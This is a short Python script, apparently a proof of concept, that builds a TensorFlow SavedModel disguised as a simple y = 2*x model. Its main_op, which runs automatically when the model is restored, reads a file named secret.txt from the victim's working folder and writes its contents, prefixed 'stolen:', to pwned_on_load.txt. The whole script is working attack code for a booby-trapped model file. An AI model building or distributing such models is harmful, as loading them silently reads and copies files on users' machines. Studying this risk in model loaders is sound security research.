import tensorflow.compat.v1 as tf

tf.disable_v2_behavior()

# Looks like y = 2 * x. Its main_op also reads and writes files: main_op is the op a loader runs
# once, by itself, right after restoring the variables (meant for initializing lookup tables).
with tf.Graph().as_default(), tf.Session() as sess:
    x = tf.placeholder(tf.float32, shape=(None,), name="x")
    w = tf.Variable(2.0, name="w")
    y = tf.multiply(x, w, name="y")
    sess.run(tf.global_variables_initializer())
    secret = tf.io.read_file("secret.txt")  # relative paths: the victim's working folder
    main_op = tf.group(tf.local_variables_initializer(),
                       tf.io.write_file("pwned_on_load.txt", tf.strings.join(["stolen: ", secret])))
    builder = tf.saved_model.builder.SavedModelBuilder("main_op_model")
    builder.add_meta_graph_and_variables(
        sess, [tf.saved_model.SERVING],
        signature_def_map={"serving_default": tf.saved_model.signature_def_utils.predict_signature_def(
            inputs={"x": x}, outputs={"y": y})},
        main_op=main_op)
    builder.save()
print("saved main_op_model/")
